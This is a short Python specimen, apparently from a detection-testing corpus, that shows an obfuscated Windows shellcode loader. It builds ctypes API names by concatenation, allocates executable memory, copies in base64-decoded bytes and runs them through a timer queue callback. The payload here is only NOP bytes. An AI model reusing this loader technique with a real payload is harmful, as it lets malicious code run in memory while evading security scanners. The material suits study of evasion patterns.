# Inert specimen. Trick: the functions are got by joined names, and a timer starts what was written.
import base64
import ctypes

kernel = getattr(ctypes, "win" + "dll").kernel32
code = base64.b64decode("kJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQ")
memory = getattr(kernel, "Virtual" + "Alloc")(0, 48, 0x3000, 64)
getattr(kernel, "RtlMove" + "Memory")(memory, code, 48)
getattr(kernel, "CreateTimerQueue" + "Timer")(0, 0, memory, 0, 0, 0, 0)
